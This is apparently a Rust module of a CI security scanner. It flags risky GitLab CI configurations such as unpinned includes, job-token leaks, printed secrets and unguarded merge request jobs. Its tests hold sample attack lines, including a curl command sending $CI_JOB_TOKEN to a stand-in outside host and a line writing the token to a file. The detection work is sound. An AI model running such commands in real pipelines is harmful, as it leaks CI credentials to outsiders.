//! GitLab CI (`.gitlab-ci.yml` and included `*.gitlab-ci.yml` files): unpinned includes,
//! images by mutable tag, the CI job token sent elsewhere or written to disk, secrets
//! printed or hard-coded, merge request jobs that use secrets without a same-project guard,
//! and the download checks on every script line.
//!
//! Anchors and `<<` merge keys are applied by the loader; `extends:` is not resolved, so a
//! template's problems are reported once, at the template.

use std::collections::HashSet;

use rampart_core::{Finding, Location, Severity};

use crate::ci::{self, Script};
use crate::credentials::is_secret_name;
use crate::shell;
use crate::text::{Lines, excerpt};
use crate::yaml::{self, Node};
use crate::{decode, dedupe, image, report_load_problems, rules};

/// Top-level keys that are not jobs.
const RESERVED: &[&str] = &[
    "default",
    "include",
    "stages",
    "variables",
    "workflow",
    "image",
    "services",
    "before_script",
    "after_script",
    "cache",
    "spec",
];

const SCRIPT_FIELDS: &[&str] = &["before_script", "script", "after_script"];

/// Predefined variables that hold credentials.
const PREDEFINED_SECRETS: &[&str] = &[
    "CI_JOB_TOKEN",
    "CI_BUILD_TOKEN",
    "CI_REGISTRY_PASSWORD",
    "CI_DEPLOY_PASSWORD",
    "CI_DEPENDENCY_PROXY_PASSWORD",
    "CI_JOB_JWT",
    "CI_JOB_JWT_V1",
    "CI_JOB_JWT_V2",
    "CI_REPOSITORY_URL",
];

const VARIABLES_FIX: &str = "Define the credential as a masked (and, for deployment \
                             credentials, protected) CI/CD variable in the project or group \
                             settings, or fetch it at run time with `secrets:` from a vault; \
                             rotate the exposed value.";

/// Scans a GitLab CI configuration file.
pub fn scan(data: &[u8], location: &Location, out: &mut Vec<Finding>) {
    let Some(source) = decode(data, location, "GitLab CI configuration", out) else {
        return;
    };
    let stream = yaml::load(source);
    report_load_problems(&stream, location, "GitLab CI configuration", out);
    let start = out.len();
    let lines = Lines::new(source);
    let pipeline = Pipeline {
        source: &lines,
        location,
    };
    for document in &stream.documents {
        pipeline.document(document, out);
    }
    dedupe(out, start);
}

struct Pipeline<'a> {
    source: &'a Lines<'a>,
    location: &'a Location,
}

fn secret_variable(word: &str) -> Option<String> {
    ci::variable_references(word)
        .into_iter()
        .find(|name| PREDEFINED_SECRETS.contains(name) || is_secret_name(name))
        .map(str::to_owned)
}

impl Pipeline<'_> {
    fn at(&self, node: &Node, resource: &str) -> Location {
        self.location
            .at_line(node.line, Some(node.column))
            .with_resource(resource)
    }

    fn document(&self, document: &Node, out: &mut Vec<Finding>) {
        if let Some(include) = document.get("include") {
            self.includes(include, out);
        }
        if let Some(variables) = document.get("variables") {
            ci::check_variables(variables, self.location, "variables", VARIABLES_FIX, out);
        }
        self.images(document, "the pipeline default", "default", out);
        if let Some(default) = document.get("default") {
            self.images(default, "the pipeline default", "default", out);
            self.scripts(default, "default", out);
        }
        self.scripts(document, "default", out);
        let workflow_guard = document
            .path(&["workflow", "rules"])
            .is_some_and(has_same_project_guard);
        for (key, job) in document.entries() {
            let Some(name) = key.as_str() else {
                continue;
            };
            if RESERVED.contains(&name) || !job.is_mapping() {
                continue;
            }
            self.images(job, &format!("job `{name}`"), name, out);
            if let Some(variables) = job.get("variables") {
                ci::check_variables(variables, self.location, name, VARIABLES_FIX, out);
            }
            self.scripts(job, name, out);
            if !name.starts_with('.') && !workflow_guard {
                self.merge_request_secrets(job, name, out);
            }
        }
    }

    fn images(&self, holder: &Node, what: &str, resource: &str, out: &mut Vec<Finding>) {
        if let Some(image_node) = holder.get("image") {
            let image_node = image_node.get("name").unwrap_or(image_node);
            if let Some(reference) = image_node.as_str() {
                image::check(reference, what, self.at(image_node, resource), out);
            }
        }
        for service in holder.get("services").map(Node::items).unwrap_or(&[]) {
            let service = service.get("name").unwrap_or(service);
            if let Some(reference) = service.as_str() {
                image::check(
                    reference,
                    &format!("a service of {what}"),
                    self.at(service, resource),
                    out,
                );
            }
        }
    }

    fn scripts(&self, holder: &Node, resource: &str, out: &mut Vec<Finding>) {
        for field in SCRIPT_FIELDS {
            let Some(scripts) = holder.get(field) else {
                continue;
            };
            for line in ci::script_lines(scripts) {
                let Some(script) = Script::of(line, self.source) else {
                    continue;
                };
                ci::check_script(
                    &script,
                    self.location,
                    resource,
                    &secret_variable,
                    true,
                    out,
                );
                self.job_token(&script, resource, out);
            }
        }
    }

    /// `CI_JOB_TOKEN` sent to a host that is not GitLab, or written to a file.
    fn job_token(&self, script: &Script<'_>, resource: &str, out: &mut Vec<Finding>) {
        for pipeline in shell::parse(script.text) {
            for command in &pipeline {
                let uses_token = command.words.iter().any(|w| {
                    ci::variable_references(&w.text)
                        .iter()
                        .any(|n| *n == "CI_JOB_TOKEN" || *n == "CI_BUILD_TOKEN")
                });
                if !uses_token {
                    continue;
                }
                let Some((_, program)) = command.program() else {
                    continue;
                };
                let foreign_host = command
                    .arguments()
                    .iter()
                    .filter_map(|w| url_host(&w.text))
                    .find(|host| {
                        !host.starts_with('$') && !host.to_ascii_lowercase().contains("gitlab")
                    });
                let problem = if let Some(host) = foreign_host {
                    format!(
                        "`{program}` sends the CI job token to `{host}`, which does not look like \
                         the GitLab instance: whoever runs that host can act as this pipeline on \
                         your projects while the job runs"
                    )
                } else if (ci_printers(&program) && command.redirects_to_file()) || program == "tee"
                {
                    "The CI job token is written to a file, where artifacts, caches or later \
                     steps can pick it up"
                        .to_owned()
                } else {
                    continue;
                };
                out.push(
                    Finding::new(
                        &rules::GITLAB_JOB_TOKEN_MISUSE,
                        script.at(command.start, self.location, resource),
                        problem,
                    )
                    .with_evidence(excerpt(command.raw(script.text))),
                );
            }
        }
    }

    fn includes(&self, include: &Node, out: &mut Vec<Finding>) {
        let items: Vec<&Node> = if include.is_sequence() {
            include.items().iter().collect()
        } else {
            vec![include]
        };
        for item in items {
            let problem = match item.as_str() {
                Some(path) if is_url(path) => remote_problem(path, false).map(|p| (item, p)),
                Some(_) => None,
                None => include_entry(item),
            };
            if let Some((node, (severity, message))) = problem {
                out.push(
                    Finding::new(
                        &rules::GITLAB_INCLUDE_UNPINNED,
                        self.at(node, "include"),
                        message,
                    )
                    .with_severity(severity)
                    .with_evidence(excerpt(node.as_str().unwrap_or(""))),
                );
            }
        }
    }

    /// A job that runs for merge requests and reads credential variables without requiring
    /// the merge request to come from this project.
    fn merge_request_secrets(&self, job: &Node, name: &str, out: &mut Vec<Finding>) {
        let Some(trigger) = merge_request_trigger(job) else {
            return;
        };
        if job.get("rules").is_some_and(has_same_project_guard) {
            return;
        }
        let mut secrets: Vec<&str> = Vec::new();
        let mut seen = HashSet::new();
        for field in SCRIPT_FIELDS {
            for line in job.get(field).map(ci::script_lines).unwrap_or_default() {
                for name in line
                    .as_str()
                    .map(ci::variable_references)
                    .unwrap_or_default()
                {
                    if is_secret_name(name) && seen.insert(name) {
                        secrets.push(name);
                    }
                }
            }
        }
        if secrets.is_empty() {
            return;
        }
        let listed: Vec<String> = secrets.iter().map(|s| format!("`${s}`")).collect();
        out.push(
            Finding::new(
                &rules::GITLAB_MR_PIPELINE_SECRETS,
                self.at(trigger, name),
                format!(
                    "Job `{name}` runs in merge request pipelines and uses {} without checking \
                     that the merge request comes from this project: run in the parent project \
                     for a fork's merge request, it executes the fork's code with those values",
                    listed.join(", ")
                ),
            )
            .with_evidence(listed.join(", ")),
        );
    }
}

/// The problem of one `include:` entry given as a mapping, and the node to point at.
fn include_entry(item: &Node) -> Option<(&Node, (Severity, String))> {
    if let Some(remote) = item.get("remote") {
        let url = remote.as_str()?;
        let has_integrity = item.get("integrity").is_some();
        return remote_problem(url, has_integrity).map(|p| (remote, p));
    }
    if let Some(project) = item.get("project") {
        let name = project.as_str()?;
        let (node, message) = match item.get("ref") {
            None => (
                project,
                format!(
                    "`include: project: {name}` has no `ref`, so it takes whatever is on that \
                     project's default branch at each pipeline run"
                ),
            ),
            Some(git_ref) => {
                let r = git_ref.as_str()?;
                if is_commit_sha(r) {
                    return None;
                }
                (
                    git_ref,
                    format!(
                        "`include: project: {name}` at `ref: {r}`, a branch or tag that anyone \
                         with write access to {name} can move"
                    ),
                )
            }
        };
        return Some((node, (Severity::Medium, message)));
    }
    let component = item.get("component")?;
    let reference = component.as_str()?;
    let message = match reference.rsplit_once('@').map(|(_, v)| v) {
        None => format!(
            "The component `{reference}` has no version, so each pipeline takes its default \
             branch"
        ),
        Some(v) if v == "~latest" || matches!(v, "main" | "master") => format!(
            "The component `{reference}` follows `{v}`, which moves with every release or push"
        ),
        Some(_) => return None,
    };
    Some((component, (Severity::Medium, message)))
}

fn ci_printers(program: &str) -> bool {
    matches!(program, "echo" | "printf" | "cat")
}

fn is_url(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    lower.starts_with("https://") || lower.starts_with("http://")
}

fn remote_problem(url: &str, has_integrity: bool) -> Option<(Severity, String)> {
    if url.to_ascii_lowercase().starts_with("http://") {
        return Some((
            Severity::High,
            format!(
                "`include: {url}` fetches pipeline configuration over plain HTTP: anyone on the \
                 path can rewrite this pipeline"
            ),
        ));
    }
    (!has_integrity).then(|| {
        (
            Severity::Medium,
            format!(
                "`include: remote: {url}` has no `integrity` hash: whoever controls that URL \
                 changes what this pipeline runs"
            ),
        )
    })
}

fn is_commit_sha(git_ref: &str) -> bool {
    matches!(git_ref.len(), 40 | 64) && git_ref.bytes().all(|b| b.is_ascii_hexdigit())
}

/// The host of a URL word (`https://user:pw@host:port/path` → `host:port`).
fn url_host(word: &str) -> Option<&str> {
    let at = word.find("://")?;
    let rest = word.get(at + 3..)?;
    let authority = rest.split(['/', '?', '"', '\'']).next().unwrap_or("");
    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    (!host.is_empty()).then_some(host)
}

/// The `rules: - if:` condition or `only:` entry that runs the job for merge requests.
fn merge_request_trigger(job: &Node) -> Option<&Node> {
    let in_rules = job.get("rules").and_then(|rules| {
        rules.items().iter().find_map(|rule| {
            let condition = rule.get("if")?;
            let runs = condition
                .as_str()
                .is_some_and(|c| c.contains("merge_request_event"))
                && rule.get("when").and_then(Node::as_str) != Some("never");
            runs.then_some(condition)
        })
    });
    in_rules.or_else(|| {
        let only = job.get("only")?;
        let refs = only.get("refs").unwrap_or(only);
        refs.items()
            .iter()
            .chain(std::iter::once(refs))
            .find(|r| r.as_str() == Some("merge_requests"))
    })
}

fn has_same_project_guard(rules: &Node) -> bool {
    rules.items().iter().any(|rule| {
        rule.get("if").and_then(Node::as_str).is_some_and(|c| {
            c.contains("CI_MERGE_REQUEST_SOURCE_PROJECT")
                && (c.contains("CI_PROJECT_ID") || c.contains("CI_PROJECT_PATH"))
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::{findings_of, ids};

    const SHA: &str = "0123456789abcdef0123456789abcdef01234567";

    fn scan_text(text: &str) -> Vec<Finding> {
        findings_of(|location, out| scan(text.as_bytes(), location, out))
    }

    fn good() -> String {
        format!(
            r#"include:
  - local: ci/common.yml
  - project: ml/ci-templates
    ref: {SHA}
    file: /train.yml
  - template: Security/SAST.gitlab-ci.yml
  - component: gitlab.com/components/secret-detection/secret-detection@1.2.0
variables:
  PIP_INDEX_URL: https://pypi.internal/simple
  HF_HOME: /cache
default:
  image: python:3.12-slim@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
.train-template: &train
  before_script:
    - pip install -r requirements.txt --require-hashes
train:
  <<: *train
  script:
    - echo "$HF_TOKEN" | huggingface-cli login --token-stdin
    - python train.py
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event" && $CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_PROJECT_ID
publish:
  script:
    - 'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" --upload-file model.tar.gz "${{CI_API_V4_URL}}/projects/${{CI_PROJECT_ID}}/packages/generic/model/1.0/model.tar.gz"'
"#
        )
    }

    #[test]
    fn a_careful_pipeline_has_no_findings() {
        let findings = scan_text(&good());
        assert!(findings.is_empty(), "{findings:#?}");
    }

    #[test]
    fn unpinned_includes() {
        let text = good()
            .replace(&format!("    ref: {SHA}\n"), "    ref: main\n")
            .replace(
                "  - local: ci/common.yml\n",
                "  - local: ci/common.yml\n  - remote: https://example.com/ci.yml\n  - 'http://example.com/x.yml'\n  - project: ml/other\n",
            )
            .replace("@1.2.0", "@~latest");
        let findings = scan_text(&text);
        assert_eq!(ids(&findings), ["gitlab/include-unpinned"; 5]);
        let severities: Vec<Severity> = findings.iter().map(|f| f.severity).collect();
        assert_eq!(
            severities,
            [
                Severity::Medium,
                Severity::High,
                Severity::Medium,
                Severity::Medium,
                Severity::Medium
            ]
        );
        assert_eq!(findings[0].location.line, Some(3));
        let with_integrity = good().replace(
            "  - local: ci/common.yml\n",
            "  - remote: https://example.com/ci.yml\n    integrity: sha256-abc=\n",
        );
        assert!(scan_text(&with_integrity).is_empty());
    }

    #[test]
    fn images_by_tag_in_jobs_and_services() {
        let text = good().replace(
            "publish:\n",
            "publish:\n  image: {name: registry.example.com/builder:latest}\n  services: [docker:dind, \"$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\"]\n",
        );
        let findings = scan_text(&text);
        assert_eq!(ids(&findings), ["image/unpinned", "image/unpinned"]);
        assert_eq!(findings[0].location.resource.as_deref(), Some("publish"));
        assert_eq!(findings[1].severity, Severity::Low);
    }

    #[test]
    fn job_token_sent_elsewhere_or_written_to_disk() {
        let text = good().replace(
            "    - python train.py\n",
            "    - python train.py\n    - 'curl -H \"PRIVATE-TOKEN: $CI_JOB_TOKEN\" https://collector.example.net/upload'\n    - echo $CI_JOB_TOKEN > token.txt\n    - git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@gitlab.example.com/ml/data.git\n",
        );
        let findings = scan_text(&text);
        assert_eq!(
            ids(&findings),
            ["gitlab/job-token-exposed", "gitlab/job-token-exposed"]
        );
        assert!(findings[0].message.contains("collector.example.net"));
        assert_eq!(findings[1].location.line, Some(22));
    }

    #[test]
    fn secrets_printed_and_hard_coded() {
        let text = good()
            .replace(
                "    - python train.py\n",
                "    - python train.py\n    - echo \"deploying with $DEPLOY_TOKEN\"\n    - printenv\n",
            )
            .replace(
                "  HF_HOME: /cache\n",
                "  HF_HOME: /cache\n  WANDB_API_KEY: 0123456789abcdef0123456789abcdef01234567\n  GIT_SSL_NO_VERIFY: \"true\"\n",
            );
        let findings = scan_text(&text);
        assert_eq!(
            ids(&findings),
            [
                "env/hardcoded-secret",
                "download/verification-disabled",
                "ci/secret-printed",
                "ci/secret-printed"
            ]
        );
        assert_eq!(findings[0].location.resource.as_deref(), Some("variables"));
    }

    #[test]
    fn template_problems_are_reported_once() {
        let text = good()
            .replace(
                "    - pip install -r requirements.txt --require-hashes\n",
                "    - pip install --trusted-host pypi.internal -r requirements.txt\n",
            )
            .replace(
                "publish:\n",
                "evaluate:\n  <<: *train\n  script: [python eval.py]\npublish:\n",
            );
        let findings = scan_text(&text);
        assert_eq!(ids(&findings), ["download/verification-disabled"]);
        assert_eq!(findings[0].location.line, Some(15));
    }

    #[test]
    fn merge_request_jobs_using_secrets_need_a_guard() {
        let text = good().replace(
            " && $CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_PROJECT_ID",
            "",
        );
        let findings = scan_text(&text);
        assert_eq!(ids(&findings), ["gitlab/merge-request-job-uses-secrets"]);
        assert!(findings[0].message.contains("`$HF_TOKEN`"));
        assert_eq!(findings[0].location.line, Some(22));
        let only = text.replace(
            "  rules:\n    - if: $CI_PIPELINE_SOURCE == \"merge_request_event\"\n",
            "  only: [merge_requests]\n",
        );
        assert_eq!(
            ids(&scan_text(&only)),
            ["gitlab/merge-request-job-uses-secrets"]
        );
    }

    #[test]
    fn hosts_of_urls() {
        assert_eq!(
            url_host("https://u:p@h.example:8443/x"),
            Some("h.example:8443")
        );
        assert_eq!(url_host("\"${CI_API_V4_URL}/x\""), None);
        assert_eq!(
            url_host("https://$CI_SERVER_HOST/x"),
            Some("$CI_SERVER_HOST")
        );
    }
}
